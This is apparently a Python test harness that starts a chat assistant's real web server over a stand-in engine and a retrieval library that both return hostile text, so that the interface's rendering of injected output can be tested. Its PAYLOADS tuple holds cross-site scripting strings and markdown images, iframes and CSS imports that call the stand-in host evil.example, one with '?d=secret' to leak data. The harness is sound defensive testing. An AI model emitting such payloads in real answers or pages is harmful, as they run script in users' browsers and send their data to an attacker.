"""The real server over an engine that obeys whoever wants to harm: it answers with everything that acts in a browser."""

from __future__ import annotations

from assistant import Assistant, Setup, Workspace
from tests.ui.page_world import TellingEngine, TwoPassages

PAYLOADS = (
    "![x](http://evil.example/?d=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/ref.png",
    '<img src="http://evil.example/i.png" onerror="alert(1)">',
    "<script>alert(2)</script>",
    "[click](javascript:alert(3))",
    '<svg onload="alert(4)"><image href="http://evil.example/s.svg"/></svg>',
    '<iframe src="http://evil.example/f"></iframe>',
    "<style>@import url(http://evil.example/c.css)</style>",
    '<a href="data:text/html,<script>alert(5)</script>">data</a>',
    ":material/bug_report: $\\href{javascript:alert(6)}{x}$ [1]",
)
HOSTILE = "\n\n".join(PAYLOADS)


def main() -> None:
    """Serve."""
    import assistant.open as opening

    def opened(workspace: Workspace, setup: Setup = Setup.HYBRID) -> Assistant:
        library = TwoPassages(texts=(HOSTILE, "The shop opens at 09:00."))
        return Assistant(TellingEngine(HOSTILE), library, workspace.form, 2, setup)  # type: ignore[arg-type]

    opening.open_assistant = opened
    from ui.server.__main__ import main as serve

    serve()


if __name__ == "__main__":
    main()
